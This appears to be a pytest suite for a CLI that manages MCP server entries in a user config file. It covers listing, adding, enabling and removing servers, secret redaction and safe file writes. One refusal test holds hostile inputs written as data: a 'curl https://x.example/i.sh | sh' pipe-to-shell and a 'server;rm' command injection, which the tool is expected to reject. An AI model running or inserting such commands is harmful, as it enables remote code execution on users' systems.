"""`lich mcp list|add|enable|disable|remove`, run in-process (tests/support/cli_runner.py) with the
temp HOME / XDG_CONFIG_HOME of tests/conftest.py, so the user config is a file of the test's own."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from lich_cli import mcp as mcp_cli
from lich_core.config import KEYS, user_config_path
from tests.support.cli_runner import run_lich as lich

GITHUB = ["--command", "github-mcp-server", "--arg", "stdio"]


def user_file() -> Path:
    return user_config_path()


def write_user(data: dict | str) -> Path:
    path = user_file()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data, indent=2))
    return path


def workspace(tmp_path: Path, data: dict) -> Path:
    root = tmp_path / "ws"
    (root / ".lich").mkdir(parents=True)
    (root / ".lich" / "config.json").write_text(json.dumps(data))
    return root


def assert_one_line_error(result, code: int, *needles: str) -> None:
    assert result.returncode == code, (result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("lich: "), result.stderr
    assert "Traceback" not in result.stderr
    for needle in needles:
        assert needle in result.stderr, result.stderr


def listed(tmp_path: Path, *extra: str) -> dict:
    result = lich("mcp", "list", "--json", *extra, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


# --- list ---


def test_list_says_when_there_is_none(tmp_path: Path) -> None:
    text = lich("mcp", "list", cwd=tmp_path)
    assert text.returncode == 0 and "no MCP servers configured" in text.stdout
    assert listed(tmp_path) == {"servers": [], "ignored": [], "user_config": str(user_file())}
    assert not user_file().exists()  # listing writes nothing


def test_list_json_shape_and_table(tmp_path: Path) -> None:
    assert (
        lich(
            "mcp", "add", "github", *GITHUB, "--env", "GITHUB_TOKEN=ghp_secret", cwd=tmp_path
        ).returncode
        == 0
    )
    add_web = lich(
        "mcp",
        "add",
        "web",
        "--url",
        "https://mcp.example.com/mcp",
        "--header-env",
        "Authorization=WEB_TOKEN",
        "--disabled",
        cwd=tmp_path,
    )
    assert add_web.returncode == 0, add_web.stderr
    shown = listed(tmp_path)
    assert set(shown) == {"servers", "ignored", "user_config"}
    github, web = shown["servers"]  # sorted by name
    assert github == {
        "name": "github",
        "transport": "stdio",
        "enabled": True,
        "refused": None,
        "target": "github-mcp-server stdio",
        "source": str(user_file()),
        "config": {  # as the config loader normalises it
            "enabled": True,
            "allow_runner": False,
            "command": "github-mcp-server",
            "args": ["stdio"],
            "env": {"GITHUB_TOKEN": "<redacted: 10 chars>"},
        },
    }
    assert (
        web["transport"] == "http"
        and web["enabled"] is False
        and web["target"] == "https://mcp.example.com/mcp"
    )
    assert web["config"]["headers_env"] == {
        "Authorization": "WEB_TOKEN"
    }  # a variable's name: not masked
    table = lich("mcp", "list", cwd=tmp_path).stdout.splitlines()
    assert table[0].split() == ["NAME", "TRANSPORT", "STATE", "SOURCE", "COMMAND", "/", "URL"]
    assert table[1].split() == [
        "github",
        "stdio",
        "enabled",
        str(user_file()),
        "github-mcp-server",
        "stdio",
    ]
    assert table[2].split() == [
        "web",
        "http",
        "disabled",
        str(user_file()),
        "https://mcp.example.com/mcp",
    ]
    assert "ghp_secret" not in lich("mcp", "list", "--json", cwd=tmp_path).stdout


def test_list_names_an_explicit_config_file_as_source(tmp_path: Path) -> None:
    extra = tmp_path / "extra.json"
    extra.write_text(
        json.dumps({"mcp_servers": {"docs": {"enabled": True, "url": "http://127.0.0.1:9000/mcp"}}})
    )
    (row,) = listed(tmp_path, "--config", str(extra))["servers"]
    assert row["name"] == "docs" and row["source"] == str(extra)


def test_a_trusted_workspace_server_is_listed_with_its_source(tmp_path: Path) -> None:
    root = workspace(
        tmp_path,
        {
            "mcp_servers": {
                "ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}
            }
        },
    )
    assert lich("trust", "--work-dir", str(root), cwd=root).returncode == 0
    (row,) = listed(root)["servers"]
    assert row["name"] == "ws_only" and row["source"] == str(
        root.resolve() / ".lich" / "config.json"
    )


@pytest.mark.skipif(
    "mcp_servers" not in KEYS, reason="needs the core's mcp_servers key (side: trust)"
)
def test_an_untrusted_workspace_server_is_ignored_and_said_so(tmp_path: Path) -> None:
    root = workspace(
        tmp_path,
        {
            "mcp_servers": {
                "ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}
            }
        },
    )
    shown = listed(root)
    assert shown["servers"] == []
    assert shown["ignored"] and all(item["key"] == "mcp_servers" for item in shown["ignored"])
    text = lich("mcp", "list", cwd=root).stdout
    assert "# ignored in" in text and "lich trust" in text


# --- add ---


def test_add_creates_the_user_config_and_its_folder(tmp_path: Path) -> None:
    assert not user_file().parent.exists()
    result = lich(
        "mcp",
        "add",
        "fs",
        "--command",
        "mcp-fs",
        "--arg=--root",
        "--cwd",
        "/srv",
        "--env",
        "A=1",
        "--",
        "-v",
        "x y",
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert "added MCP server 'fs'" in result.stdout and str(user_file()) in result.stdout
    assert json.loads(user_file().read_text()) == {
        "mcp_servers": {
            "fs": {
                "enabled": True,
                "command": "mcp-fs",
                "args": ["--root", "-v", "x y"],
                "env": {"A": "1"},
                "cwd": "/srv",
            }
        }
    }
    assert stat.S_IMODE(user_file().stat().st_mode) == 0o600  # a new user config may hold keys
    assert list(tmp_path.iterdir()) == []  # nothing in the directory it runs in


def test_add_http_and_allow_runner_entries(tmp_path: Path) -> None:
    assert (
        lich(
            "mcp",
            "add",
            "web",
            "--url",
            "https://h.example/mcp",
            "--header-env",
            "X-Key=WEB_KEY",
            "--disabled",
            cwd=tmp_path,
        ).returncode
        == 0
    )
    runner = lich(
        "mcp",
        "add",
        "fetch",
        "--command",
        "uvx",
        "--allow-runner",
        "--",
        "mcp-server-fetch",
        cwd=tmp_path,
    )
    assert runner.returncode == 0, runner.stderr
    servers = json.loads(user_file().read_text())["mcp_servers"]
    assert servers["web"] == {
        "enabled": False,
        "url": "https://h.example/mcp",
        "headers_env": {"X-Key": "WEB_KEY"},
    }
    assert servers["fetch"] == {
        "enabled": True,
        "command": "uvx",
        "args": ["mcp-server-fetch"],
        "env": {},
        "allow_runner": True,
    }


def test_add_keeps_the_rest_of_the_user_config(tmp_path: Path) -> None:
    before = {
        "max_turns": 7,
        "my_plugin_setting": {"nested": [1, 2]},
        "mcp_servers": {"old": {"enabled": False, "url": "http://localhost:8000/mcp"}},
        "approval": {"mcp/call": "allow"},
    }
    write_user(before)
    assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
    after = json.loads(user_file().read_text())
    assert list(after) == list(before)  # same keys, same order
    assert {k: v for k, v in after.items() if k != "mcp_servers"} == {
        k: v for k, v in before.items() if k != "mcp_servers"
    }
    assert (
        list(after["mcp_servers"]) == ["old", "github"]
        and after["mcp_servers"]["old"] == before["mcp_servers"]["old"]
    )


def test_an_existing_name_needs_force(tmp_path: Path) -> None:
    assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
    original = user_file().read_text()
    again = lich("mcp", "add", "github", "--url", "https://other.example/mcp", cwd=tmp_path)
    assert_one_line_error(again, 1, "'github' already exists", "--force")
    assert user_file().read_text() == original
    forced = lich(
        "mcp", "add", "github", "--url", "https://other.example/mcp", "--force", cwd=tmp_path
    )
    assert forced.returncode == 0 and "replaced MCP server 'github'" in forced.stdout
    assert json.loads(user_file().read_text())["mcp_servers"] == {
        "github": {"enabled": True, "url": "https://other.example/mcp"}
    }


@pytest.mark.parametrize("name", ["GitHub", "my-server", "a b", "dots.too", "ünï", ""])
def test_bad_names_are_refused(tmp_path: Path, name: str) -> None:
    assert_one_line_error(lich("mcp", "add", name, *GITHUB, cwd=tmp_path), 2, "bad MCP server name")
    assert not user_file().exists()
    write_user({"mcp_servers": {}})
    for action in ("enable", "disable", "remove"):
        assert_one_line_error(lich("mcp", action, name, cwd=tmp_path), 2, "bad MCP server name")


def test_a_bad_name_gets_a_suggestion(tmp_path: Path) -> None:
    assert "e.g. 'my_server'" in lich("mcp", "add", "My-Server", *GITHUB, cwd=tmp_path).stderr


@pytest.mark.parametrize(
    "argv, needle",
    [
        (["mcp"], "say what to do"),
        (["mcp", "frobnicate"], "invalid choice"),
        (["mcp", "add", "x"], "--command --url is required"),
        (["mcp", "add", "x", "--command", "a", "--url", "https://h.example"], "not allowed with"),
        (
            ["mcp", "add", "x", "--url", "https://h.example", "--env", "A=1"],
            "for --command servers",
        ),
        (
            ["mcp", "add", "x", "--url", "https://h.example", "--", "extra"],
            "only for `add --command`",
        ),
        (
            ["mcp", "add", "x", "--command", "a", "--header-env", "Authorization=TOKEN"],
            "for --url servers",
        ),
        (["mcp", "add", "x", "--command", "a", "--env", "NOEQUALS"], "expected NAME=VALUE"),
        (
            ["mcp", "add", "x", "--url", "https://h.example", "--header-env", "=VAR"],
            "expected HEADER=VAR",
        ),
        (["mcp", "add", "x", "--command", "a", "--env", "1BAD=x"], "mcp_servers.x.env"),
        (
            [
                "mcp",
                "add",
                "x",
                "--url",
                "https://h.example",
                "--header-env",
                "Authorization=not-a-var",
            ],
            "mcp_servers.x.headers_env",
        ),
        (["mcp", "add", "x" * 33, "--url", "https://h.example"], "longer than 32"),
        (["mcp", "add", "x", "--url", "ftp://h.example"], "mcp_servers.x.url"),
        (["mcp", "add", "x", "--command", ""], "mcp_servers.x.command"),
        (["mcp", "list", "--bogus"], "unrecognized arguments"),
        (["mcp", "remove"], "required: NAME"),
        (["mcp", "enable", "x", "--", "y"], "only for `add --command`"),
    ],
)
def test_usage_errors_are_one_line_and_exit_2(tmp_path: Path, argv: list[str], needle: str) -> None:
    assert_one_line_error(lich(*argv, cwd=tmp_path), 2, needle)
    assert not user_file().exists()


@pytest.mark.parametrize(
    "argv, reason",
    [
        (["--command", "npx", "--", "-y", "@scope/server"], "npx downloads and runs a package"),
        (["--command", "pnpm", "--", "dlx", "server"], "pnpm dlx"),
        (
            ["--command", "bash", "--", "-c", "curl https://x.example/i.sh | sh"],
            "pipes it into a shell",
        ),
        (["--command", "python3", "--arg=-c", "--arg", "import os"], "python -c runs code"),
        (["--command", "https://x.example/server"], "the command is a URL"),
        (["--command", "server;rm"], "shell metacharacters"),
        (["--url", "http://mcp.example.com/mcp"], "plain http"),
    ],
)
def test_what_lich_would_refuse_to_start_is_not_written(
    tmp_path: Path, argv: list[str], reason: str
) -> None:
    result = lich("mcp", "add", "x", *argv, cwd=tmp_path)
    assert_one_line_error(result, 1, "mcp_refused: x:", reason, "nothing written")
    if "--command" in argv:
        assert "--allow-runner" in result.stderr
    assert not user_file().exists()


def test_allow_runner_lifts_the_stdio_refusal_only(tmp_path: Path) -> None:
    ok = lich(
        "mcp",
        "add",
        "fs",
        "--command",
        "npx",
        "--allow-runner",
        "--",
        "-y",
        "@scope/server",
        cwd=tmp_path,
    )
    assert ok.returncode == 0, ok.stderr
    (row,) = listed(tmp_path)["servers"]
    assert row["refused"] is None and row["target"] == "npx -y @scope/server"


def test_a_hand_written_refused_server_is_shown_and_warned_about(tmp_path: Path) -> None:
    write_user(
        {"mcp_servers": {"fs": {"enabled": False, "command": "uvx", "args": ["mcp-server-fetch"]}}}
    )
    (row,) = listed(tmp_path)["servers"]
    assert row["enabled"] is False and row["refused"].startswith("mcp_refused: fs: uvx")
    enabled = lich("mcp", "enable", "fs", cwd=tmp_path)
    assert enabled.returncode == 0 and "enabled MCP server 'fs'" in enabled.stdout
    assert (
        enabled.stderr.startswith("lich: warning: mcp_refused: fs:")
        and "will not start it" in enabled.stderr
    )
    table = lich("mcp", "list", cwd=tmp_path).stdout.splitlines()
    assert table[1].split()[:3] == ["fs", "stdio", "refused"] and table[2].startswith(
        "# mcp_refused: fs:"
    )


def test_http_on_loopback_is_allowed(tmp_path: Path) -> None:
    for index, url in enumerate(
        ["http://127.0.0.1:8000/mcp", "http://localhost:3000/mcp", "http://[::1]:9/mcp"]
    ):
        result = lich("mcp", "add", f"local{index}", "--url", url, cwd=tmp_path)
        assert result.returncode == 0, result.stderr


def test_help_is_not_an_error(tmp_path: Path) -> None:
    result = lich("mcp", "add", "--help", cwd=tmp_path)
    assert result.returncode == 0 and "--allow-runner" in result.stdout


# --- enable, disable, remove ---


def test_disable_enable_remove(tmp_path: Path) -> None:
    assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
    assert (
        lich("mcp", "add", "other", "--url", "https://o.example/mcp", cwd=tmp_path).returncode == 0
    )
    disabled = lich("mcp", "disable", "github", cwd=tmp_path)
    assert disabled.returncode == 0 and "disabled MCP server 'github'" in disabled.stdout
    assert json.loads(user_file().read_text())["mcp_servers"]["github"]["enabled"] is False
    assert {row["name"]: row["enabled"] for row in listed(tmp_path)["servers"]} == {
        "github": False,
        "other": True,
    }
    enabled = lich("mcp", "enable", "github", cwd=tmp_path)
    assert (
        enabled.returncode == 0
        and json.loads(user_file().read_text())["mcp_servers"]["github"]["enabled"] is True
    )
    removed = lich("mcp", "remove", "github", cwd=tmp_path)
    assert removed.returncode == 0 and "removed MCP server 'github'" in removed.stdout
    assert list(json.loads(user_file().read_text())["mcp_servers"]) == ["other"]
    assert lich("mcp", "remove", "other", cwd=tmp_path).returncode == 0
    assert json.loads(user_file().read_text()) == {"mcp_servers": {}}


def test_enabling_an_enabled_server_leaves_the_file_alone(tmp_path: Path) -> None:
    assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
    before = user_file().stat()
    result = lich("mcp", "enable", "github", cwd=tmp_path)
    assert result.returncode == 0 and "already enabled" in result.stdout
    after = user_file().stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)


def test_an_unknown_name_is_an_error_naming_what_exists(tmp_path: Path) -> None:
    for action in ("enable", "disable", "remove"):
        assert_one_line_error(
            lich("mcp", action, "nope", cwd=tmp_path), 1, "no MCP server 'nope'", "none"
        )
    assert not user_file().exists()
    assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
    assert_one_line_error(
        lich("mcp", "remove", "nope", cwd=tmp_path), 1, "configured there: github"
    )


def test_a_workspace_only_server_is_not_edited(tmp_path: Path) -> None:
    root = workspace(
        tmp_path,
        {
            "mcp_servers": {
                "ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}
            }
        },
    )
    workspace_text = (root / ".lich" / "config.json").read_text()
    for action in ("enable", "disable", "remove"):
        from_inside = lich("mcp", action, "ws_only", cwd=root)
        assert_one_line_error(
            from_inside,
            1,
            "only in the workspace file",
            str(root / ".lich" / "config.json"),
            str(user_file()),
        )
        from_outside = lich("mcp", action, "ws_only", "--work-dir", str(root), cwd=tmp_path)
        assert_one_line_error(from_outside, 1, "only in the workspace file")
    assert (root / ".lich" / "config.json").read_text() == workspace_text
    assert not user_file().exists()


# --- what is never lost: comments, permissions, the old file ---


def test_a_user_config_with_comments_is_not_rewritten(tmp_path: Path) -> None:
    text = '// my settings\n{\n  "max_turns": 5, // fewer\n  "mcp_servers": {"github": {"enabled": true, "command": "g", "args": [], "env": {}}}\n}\n'
    write_user(text)
    add = lich("mcp", "add", "web", "--url", "https://h.example/mcp", cwd=tmp_path)
    assert_one_line_error(
        add,
        1,
        str(user_file()),
        "// comments",
        '"web": {"enabled": true, "url": "https://h.example/mcp"}',
    )
    for action in ("disable", "remove"):
        assert_one_line_error(lich("mcp", action, "github", cwd=tmp_path), 1, "// comments")
    assert user_file().read_text() == text
    assert [row["name"] for row in listed(tmp_path)["servers"]] == [
        "github"
    ]  # reading them is fine


def test_slashes_inside_strings_are_not_comments(tmp_path: Path) -> None:
    write_user({"mcp_servers": {"web": {"enabled": True, "url": "https://h.example//mcp"}}})
    assert lich("mcp", "disable", "web", cwd=tmp_path).returncode == 0
    assert json.loads(user_file().read_text())["mcp_servers"]["web"]["enabled"] is False


def test_a_broken_user_config_is_a_config_error(tmp_path: Path) -> None:
    write_user('{"mcp_servers": {')
    for argv in (["add", "github", *GITHUB], ["remove", "github"], ["list"]):
        assert_one_line_error(lich("mcp", *argv, cwd=tmp_path), 2, "config error", str(user_file()))
    assert user_file().read_text() == '{"mcp_servers": {'


def test_the_file_keeps_its_permissions(tmp_path: Path) -> None:
    path = write_user({"max_turns": 3})
    path.chmod(0o640)
    assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


def test_a_symlinked_user_config_stays_a_symlink(tmp_path: Path) -> None:
    real = tmp_path / "dotfiles" / "lich.json"
    real.parent.mkdir()
    real.write_text(json.dumps({"max_turns": 3}))
    user_file().parent.mkdir(parents=True)
    user_file().symlink_to(real)
    assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
    assert user_file().is_symlink()
    assert json.loads(real.read_text())["mcp_servers"]["github"]["command"] == "github-mcp-server"


def test_the_write_is_a_rename_of_a_complete_temp_file(tmp_path: Path, monkeypatch) -> None:
    path = write_user({"max_turns": 3})
    old = path.read_text()
    seen = []
    real_replace = os.replace

    def spy(src, dst, *args, **kwargs):
        # At the rename the target still holds the old file and the temp file the whole new one.
        seen.append((Path(src).parent, Path(dst).read_text(), json.loads(Path(src).read_text())))
        return real_replace(src, dst, *args, **kwargs)

    monkeypatch.setattr(mcp_cli.os, "replace", spy)
    assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
    ((folder, at_rename, new),) = seen
    assert folder == path.parent and at_rename == old
    assert (
        new == json.loads(path.read_text())
        and new["mcp_servers"]["github"]["command"] == "github-mcp-server"
    )
    assert sorted(p.name for p in path.parent.iterdir()) == ["config.json"]  # no temp file left


def test_a_failed_write_leaves_the_old_file(tmp_path: Path, monkeypatch) -> None:
    path = write_user(
        {
            "max_turns": 3,
            "mcp_servers": {"github": {"enabled": True, "command": "g", "args": [], "env": {}}},
        }
    )
    old = path.read_text()

    def failing_replace(src, dst, *args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(mcp_cli.os, "replace", failing_replace)
    for argv in (
        ["add", "web", "--url", "https://h.example/mcp"],
        ["disable", "github"],
        ["remove", "github"],
    ):
        assert_one_line_error(lich("mcp", *argv, cwd=tmp_path), 1, "cannot write", "No space left")
        assert path.read_text() == old
        assert sorted(p.name for p in path.parent.iterdir()) == ["config.json"]


def test_a_file_changed_during_the_edit_is_not_overwritten(tmp_path: Path, monkeypatch) -> None:
    path = write_user({"max_turns": 3})
    real_mkstemp = mcp_cli.tempfile.mkstemp

    def mkstemp_after_someone_else_wrote(*args, **kwargs):
        path.write_text(json.dumps({"max_turns": 4}))
        return real_mkstemp(*args, **kwargs)

    monkeypatch.setattr(mcp_cli.tempfile, "mkstemp", mkstemp_after_someone_else_wrote)
    assert_one_line_error(
        lich("mcp", "add", "github", *GITHUB, cwd=tmp_path), 1, "changed while lich was editing it"
    )
    assert json.loads(path.read_text()) == {"max_turns": 4}
    assert sorted(p.name for p in path.parent.iterdir()) == ["config.json"]


def test_what_add_writes_loads_as_config(tmp_path: Path) -> None:
    """The written file goes through the loader (and its mcp_servers validator, once the core has one)."""
    from lich_core.config import load_config

    assert (
        lich(
            "mcp", "add", "github", *GITHUB, "--env", "K=v", "--cwd", "/srv", cwd=tmp_path
        ).returncode
        == 0
    )
    assert (
        lich(
            "mcp",
            "add",
            "web",
            "--url",
            "https://h.example/mcp",
            "--header-env",
            "Authorization=T",
            cwd=tmp_path,
        ).returncode
        == 0
    )
    config = load_config(tmp_path)
    assert set(config["mcp_servers"]) == {"github", "web"}
